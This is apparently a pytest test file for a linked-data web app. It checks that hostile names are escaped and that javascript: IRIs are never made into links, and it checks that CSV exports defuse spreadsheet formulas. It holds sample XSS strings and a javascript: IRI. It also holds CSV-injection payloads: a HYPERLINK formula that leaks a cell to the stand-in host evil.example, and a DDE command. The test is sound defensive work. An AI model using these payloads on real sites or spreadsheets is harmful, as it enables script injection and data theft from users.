"""No markup from data: names from a user graph are text on every page, and an IRI that is not http(s) (a
``javascript:`` source) is never a link, whatever the Content-Security-Policy would stop.

The hostile graph (``data/hostile.ttl``) sits in the store as a user graph. It is put there directly rather than
through ``ascn load``: the loader refuses such IRIs, but the pages must hold for any store, a remote one written
by other tools included. The same store is served to a real browser in ``tests/browser/test_hostile_data.py``.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from rdflib import Graph

from tests.conftest import WEBAPP_DATA, store_copy

HOSTILE = WEBAPP_DATA / "hostile.ttl"
HOSTILE_GRAPH = "https://w3id.org/ascn/graph/user/hostile"
PAGES = [
    "/",
    "/id/city/hostile-town",
    "/id/project/hostile-project",
    "/ontology",
    "/data",
    "/projects",
    "/projects?city=hostile-town",
    "/match?who=partner&focus=quality_environment&country=th",
    "/match?who=city&focus=quality_environment&text=flood+sensors",
]


def hostile_graphs(bundled_graphs: dict) -> dict:
    """The bundled build plus the hostile user graph."""
    return {**bundled_graphs, HOSTILE_GRAPH: Graph().parse(HOSTILE, format="turtle")}


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory, bundled_graphs):
    from webapp import create_app
    from webapp.store import close_app

    settings = store_copy(tmp_path_factory.mktemp("hostile") / "data", hostile_graphs(bundled_graphs))
    app = create_app({"TESTING": True, "DATA_DIR": str(settings.data_dir), "AUTO_BUILD": False})
    yield app.test_client()
    close_app(app)


def page(client, path: str) -> str:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    return response.get_data(as_text=True)


@pytest.mark.parametrize("path", PAGES)
def test_no_page_links_to_a_javascript_iri_or_to_none(hostile_client, path):
    html = page(hostile_client, path)
    hrefs = re.findall(r'\b(?:href|src|action)\s*=\s*"([^"]*)"', html, flags=re.IGNORECASE)
    assert hrefs, path
    assert [h for h in hrefs if not re.match(r"(https?://|/|#|\?)", h)] == [], path
    assert "javascript:" not in " ".join(hrefs).lower()


@pytest.mark.parametrize("path", PAGES)
def test_names_from_data_are_escaped_text(hostile_client, path):
    html = page(hostile_client, path)
    assert "<img src=x" not in html and "<b onmouseover" not in html and "<i>Hostile concept" not in html
    assert "<script>document.title" not in html


def test_the_hostile_names_are_shown_as_their_own_text(hostile_client):
    city = page(hostile_client, "/id/city/hostile-town")
    assert "&lt;img src=x onerror=&#34;document.title=&#39;pwned&#39;&#34;&gt;Hostile Town" in city
    # the javascript: source is listed as a source, as text with its IRI, not as a link
    assert re.search(
        r"&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;Hostile source\s*"
        r"<span class=\"iri\">javascript:document.title=&#39;pwned&#39;</span>",
        city,
    )
    assert "Hostile concept" in page(hostile_client, "/ontology")
    assert "Hostile project" in page(hostile_client, "/match?who=city&focus=quality_environment&text=flood+sensors")


def test_the_map_data_carries_names_as_json_strings(hostile_client):
    """The maps read names from a JSON block; the browser test checks that they reach the DOM as text."""
    html = page(hostile_client, "/")
    block = re.search(r'<script type="application/json" id="map-data">(.*?)</script>', html, flags=re.S)
    assert block and "Hostile Town" in block.group(1) and "<img" not in block.group(1)


def test_the_projects_csv_gives_formulas_from_data_as_text(hostile_client):
    """The Find projects download is for spreadsheets: a cell that starts as a formula would run there (a
    HYPERLINK leaking other cells, a DDE command), so it starts with a quote, as OWASP advises; other cells are
    as they were, and the SPARQL CSV of the same name stays exact (its format is the SPARQL 1.1 standard's)."""
    response = hostile_client.get("/projects.csv?city=hostile-town")
    rows = {row["project"]: row for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))}
    formula = rows["https://w3id.org/ascn/id/project/formula-project"]
    assert formula["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Formula project")'
    assert formula["description"] == "'+cmd|' /C calc'!A0"
    assert formula["city"] == "<img src=x onerror=\"document.title='pwned'\">Hostile Town"
    assert rows["https://w3id.org/ascn/id/project/hostile-project"]["name"] == (
        "<b onmouseover=\"document.title='pwned'\">Hostile project</b>"
    )
    sparql = hostile_client.get(
        "/sparql",
        query_string={
            "query": "SELECT ?name WHERE { <https://w3id.org/ascn/id/project/formula-project> <http://www.w3.org/2000/01/rdf-schema#label> ?name }",
            "format": "csv",
        },
    )
    assert (
        sparql.get_data(as_text=True)
        == 'name\r\n"=HYPERLINK(""https://evil.example/?leak=""&A1,""Formula project"")"\r\n'
    )
